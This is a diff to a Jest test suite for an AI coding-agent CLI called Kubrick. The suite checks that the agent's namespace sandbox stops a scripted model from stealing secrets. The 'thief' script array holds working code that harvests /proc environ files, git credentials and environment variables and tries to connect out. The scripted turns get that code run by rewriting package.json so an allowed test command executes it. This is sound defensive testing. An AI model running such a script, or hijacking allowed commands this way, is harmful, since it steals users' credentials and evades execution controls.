@@ -4,8 +4,17 @@
  * allowed `npm test` into a secret thief gets nothing out.
  */
 import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
-import { execFileSync, spawn } from 'node:child_process';
-import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { execFileSync, spawn, spawnSync } from 'node:child_process';
+import {
+  chmodSync,
+  cpSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  writeFileSync
+} from 'node:fs';
 import { createServer, type Server } from 'node:net';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
@@ -60,13 +69,40 @@ afterEach(async () => {
   rmSync(dir, { recursive: true, force: true });
 });
 
-async function runCli(turns: Turn[], extraArgs: string[] = []) {
+/**
+ * Another uid for the run, when the tests run as root: the sandbox then takes the path most runners
+ * and desktops take (unprivileged user namespaces) instead of the root one. Null when that path
+ * cannot be shown here: not root, or the kernel refuses user namespaces to other users.
+ */
+const OTHER_UID = 4242;
+const otherUser: number | null =
+  process.getuid?.() === 0 &&
+  spawnSync('unshare', ['--user', '--map-root-user', 'true'], { uid: OTHER_UID, gid: OTHER_UID }).status === 0
+    ? OTHER_UID
+    : null;
+
+async function runCli(turns: Turn[], extraArgs: string[] = [], options: { asUser?: number } = {}) {
   model = await startScriptedModel(turns);
   const transcript = join(dir, 'transcript.jsonl');
+  let node = process.execPath;
+  let cli = CLI;
+  let path = process.env.PATH;
+  if (options.asUser !== undefined) {
+    // That user may not be able to reach our Node or checkout (a root-only HOME): it gets copies,
+    // and the whole test directory.
+    node = join(dir, 'node', 'node');
+    mkdirSync(dirname(node));
+    cpSync(process.execPath, node);
+    chmodSync(node, 0o755);
+    cpSync(join(REPO_ROOT, 'dist'), join(dir, 'dist'), { recursive: true });
+    cli = join(dir, 'dist', 'cli.js');
+    path = `${dirname(node)}:/usr/local/bin:/usr/bin:/bin`;
+    execFileSync('chown', ['-R', `${options.asUser}:${options.asUser}`, dir]);
+  }
   const child = spawn(
-    process.execPath,
+    node,
     [
-      CLI,
+      cli,
       'run',
       '--task',
       'fix the failing test',
@@ -84,13 +120,14 @@ async function runCli(turns: Turn[], extraArgs: string[] = []) {
     {
       cwd: dir,
       env: {
-        PATH: process.env.PATH,
+        PATH: path,
         HOME: home,
         KUBRICK_API_KEY: API_KEY_CANARY,
         DEPLOY_TOKEN: ENV_CANARY,
         MY_SECRET: ENV_CANARY
       },
-      stdio: ['ignore', 'pipe', 'pipe']
+      stdio: ['ignore', 'pipe', 'pipe'],
+      ...(options.asUser !== undefined ? { uid: options.asUser, gid: options.asUser } : {})
     }
   );
   let stdout = '';
@@ -170,59 +207,81 @@ describe('an allowed command running code the model wrote', () => {
     await new Promise<void>(resolve => listener.close(() => resolve()));
   });
 
-  it('finds no secret and reaches no network, and the run ends normally', async () => {
-    const port = (listener.address() as { port: number }).port;
-    const thief = [
-      "import { readFileSync, readdirSync, writeFileSync } from 'node:fs';",
-      "import { connect } from 'node:net';",
-      'const found = [];',
-      "const grab = p => { try { found.push(p + ': ' + readFileSync(p, 'utf8')); } catch (e) { found.push(p + ': ' + e.code); } };",
-      "for (const pid of readdirSync('/proc').filter(n => /^\\d+$/.test(n))) { grab(`/proc/${pid}/environ`); grab(`/proc/${pid}/cmdline`); }",
-      `grab(${JSON.stringify(join(home, '.git-credentials'))});`,
-      `grab(${JSON.stringify(join(home, '.gitconfig'))});`,
-      "grab(process.env.HOME + '/.gitconfig');",
-      "found.push('env: ' + JSON.stringify(process.env));",
-      `const socket = connect(${port}, '127.0.0.1');`,
-      "socket.on('connect', () => { found.push('CONNECTED'); socket.destroy(); });",
-      "socket.on('error', e => found.push('connect: ' + e.code));",
-      "setTimeout(() => { writeFileSync('found.txt', found.join('\\n')); console.log(found.join('\\n')); }, 500);",
-      ''
-    ].join('\n');
-    const turns: Turn[] = [
-      {
-        toolCalls: [
-          { name: 'write_file', arguments: { path: 'steal.js', content: thief } },
+  const variants: { name: string; asUser?: number; command: string }[] = [
+    { name: `as ${process.getuid?.() === 0 ? 'root' : 'this user'}`, command: 'npm test' },
+    ...(otherUser === null
+      ? []
+      : [
           {
-            name: 'edit_file',
-            arguments: {
-              path: 'package.json',
-              old_string: '"test": "node test.js"',
-              new_string: '"test": "node steal.js"'
-            }
+            name: `as uid ${otherUser} (unprivileged user namespaces)`,
+            asUser: otherUser,
+            command: 'node test.js'
           }
-        ]
-      },
-      { toolCalls: [{ name: 'run_command', arguments: { command: 'npm test' } }] },
-      { toolCalls: [{ name: 'read_file', arguments: { path: 'found.txt' } }] },
-      { toolCalls: [{ name: 'finish', arguments: { summary: 'Collected what I could.' } }] }
-    ];
-    const { exitCode, stdout, stderr, transcript } = await runCli(turns);
-    expect(exitCode).toBe(0);
-    expect(JSON.parse(stdout)).toMatchObject({ conclusion: 'success', sandbox: 'namespaces' });
-    const found = readFileSync(join(repo, 'found.txt'), 'utf8');
-    // The script really ran (so the test can fail), and found nothing.
-    expect(found).toContain('/proc/1/environ');
-    expect(found).not.toContain('CONNECTED');
-    expect(connections).toBe(0);
-    expectNoCanary(found, stdout, stderr, transcript);
-    for (const name of readdirSync(repo)) {
-      if (name === '.git') continue;
-      const path = join(repo, name);
-      try {
-        expectNoCanary(readFileSync(path, 'utf8'));
-      } catch (error) {
-        if ((error as NodeJS.ErrnoException).code !== 'EISDIR') throw error;
+        ])
+  ];
+
+  it.each(variants)(
+    'finds no secret and reaches no network, and the run ends normally, $name',
+    async variant => {
+      const port = (listener.address() as { port: number }).port;
+      const thief = [
+        "import { readFileSync, readdirSync, writeFileSync } from 'node:fs';",
+        "import { connect } from 'node:net';",
+        'const found = [];',
+        "const grab = p => { try { found.push(p + ': ' + readFileSync(p, 'utf8')); } catch (e) { found.push(p + ': ' + e.code); } };",
+        "for (const pid of readdirSync('/proc').filter(n => /^\\d+$/.test(n))) { grab(`/proc/${pid}/environ`); grab(`/proc/${pid}/cmdline`); }",
+        `grab(${JSON.stringify(join(home, '.git-credentials'))});`,
+        `grab(${JSON.stringify(join(home, '.gitconfig'))});`,
+        "grab(process.env.HOME + '/.gitconfig');",
+        "found.push('env: ' + JSON.stringify(process.env));",
+        "found.push('uid: ' + process.getuid());",
+        `const socket = connect(${port}, '127.0.0.1');`,
+        "socket.on('connect', () => { found.push('CONNECTED'); socket.destroy(); });",
+        "socket.on('error', e => found.push('connect: ' + e.code));",
+        "setTimeout(() => { writeFileSync('found.txt', found.join('\\n')); console.log(found.join('\\n')); }, 500);",
+        ''
+      ].join('\n');
+      const turns: Turn[] = [
+        {
+          toolCalls: [
+            { name: 'write_file', arguments: { path: 'steal.js', content: thief } },
+            // Both allowed commands now run the thief: `npm test` through package.json, `node test.js` directly.
+            {
+              name: 'edit_file',
+              arguments: {
+                path: 'package.json',
+                old_string: '"test": "node test.js"',
+                new_string: '"test": "node steal.js"'
+              }
+            },
+            { name: 'write_file', arguments: { path: 'test.js', content: thief } }
+          ]
+        },
+        { toolCalls: [{ name: 'run_command', arguments: { command: variant.command } }] },
+        { toolCalls: [{ name: 'read_file', arguments: { path: 'found.txt' } }] },
+        { toolCalls: [{ name: 'finish', arguments: { summary: 'Collected what I could.' } }] }
+      ];
+      const { exitCode, stdout, stderr, transcript } = await runCli(turns, [], { asUser: variant.asUser });
+      expect({ exitCode, stderr: exitCode === 0 ? '' : stderr }).toEqual({ exitCode: 0, stderr: '' });
+      expect(JSON.parse(stdout)).toMatchObject({ conclusion: 'success', sandbox: 'namespaces' });
+      // Commands never run as root: as the mapped uid 1000 when Kubrick is root, else as Kubrick's own uid.
+      const runningUid = process.getuid?.() === 0 ? 1000 : process.getuid?.();
+      const found = readFileSync(join(repo, 'found.txt'), 'utf8');
+      // The script really ran (so the test can fail), and found nothing.
+      expect(found).toContain('/proc/1/environ');
+      expect(found).toContain(`uid: ${variant.asUser ?? runningUid}`);
+      expect(found).not.toContain('CONNECTED');
+      expect(connections).toBe(0);
+      expectNoCanary(found, stdout, stderr, transcript);
+      for (const name of readdirSync(repo)) {
+        if (name === '.git') continue;
+        const path = join(repo, name);
+        try {
+          expectNoCanary(readFileSync(path, 'utf8'));
+        } catch (error) {
+          if ((error as NodeJS.ErrnoException).code !== 'EISDIR') throw error;
+        }
       }
     }
-  });
+  );
 });
